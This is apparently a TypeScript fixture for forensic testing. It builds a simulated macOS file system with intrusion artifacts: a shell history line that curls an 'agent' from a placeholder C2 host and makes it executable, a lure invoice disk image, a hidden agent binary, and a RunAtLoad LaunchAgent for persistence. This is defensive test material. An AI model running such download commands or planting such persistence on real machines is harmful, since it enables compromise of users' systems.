import type { Planter } from '../files/planter.ts';
import type { UnixProfile } from './unix-profile.ts';

/** What a Mac has, and what an intruder left on it. */
export function plantMac(planter: Planter, { spec, home, user, bootTime, product }: UnixProfile): void {
  for (const path of [
    '/Applications',
    '/Library/LaunchDaemons',
    '/Library/Logs',
    '/Network',
    '/System/Library',
    '/Users/Shared',
    '/Volumes',
    '/cores',
    '/private/tmp',
    '/private/var/tmp',
    '/tmp',
    '/usr/bin',
    '/usr/lib',
    '/usr/local/bin',
    '/usr/sbin',
    '/var/tmp',
  ])
    planter.directory(path);
  planter.text(
    '/etc/hosts',
    '127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n',
  );
  planter.text('/etc/passwd', 'root:*:0:0:System Administrator:/var/root:/bin/sh\n');
  planter.text(
    '/System/Library/CoreServices/SystemVersion.plist',
    systemVersion(product.replace('macOS ', '')),
  );
  planter.program('/Applications/Safari.app/Contents/MacOS/Safari', { executable: true });
  planter.program('/Applications/CarbonBlack/CbOsxSensorService', { executable: true });
  planter.program('/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', {
    executable: true,
  });
  planter.text(
    '/var/log/system.log',
    Array.from({ length: 20 }, (_, index) => `${spec.hostname} kernel[0]: message ${index}\n`).join(''),
  );
  planter.text('/var/log/install.log', `${spec.hostname} Installer: package receipt written\n`);
  for (const folder of [
    'Desktop',
    'Documents',
    'Downloads',
    'Library/Application Support',
    'Library/Preferences',
    'Movies',
    'Music',
    'Pictures',
  ])
    planter.directory(`${home}/${folder}`);
  planter.text(
    `${home}/.zsh_history`,
    'curl -fsSL https://c2.example.invalid/agent -o agent\nchmod +x agent\n',
    'utf8',
    { written: bootTime + 380 },
  );
  planter.text(`${home}/Documents/Grüße.txt`, `from ${user}: schöne Grüße\n`);
  planter.binary(`${home}/Downloads/Invoice 4711.dmg`, 812_400, Buffer.from('koly'), {
    written: bootTime + 370,
  });
  planter.program(`${home}/Library/.update/agent`, {
    executable: true,
    written: bootTime + 395,
  });
  planter.text(`${home}/Library/LaunchAgents/com.example.update.plist`, launchAgent(home), 'utf8', {
    written: bootTime + 396,
  });
  planter.program('/private/tmp/evil', { executable: true, written: bootTime + 630 });
}

const systemVersion = (version: string) =>
  [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<plist version="1.0"><dict>',
    '<key>ProductName</key><string>macOS</string>',
    `<key>ProductVersion</key><string>${version}</string>`,
    '</dict></plist>',
    '',
  ].join('\n');

function launchAgent(home: string): string {
  return [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<plist version="1.0"><dict>',
    '<key>Label</key><string>com.example.update</string>',
    `<key>ProgramArguments</key><array><string>${home}/Library/.update/agent</string></array>`,
    '<key>RunAtLoad</key><true/>',
    '</dict></plist>',
    '',
  ].join('\n');
}
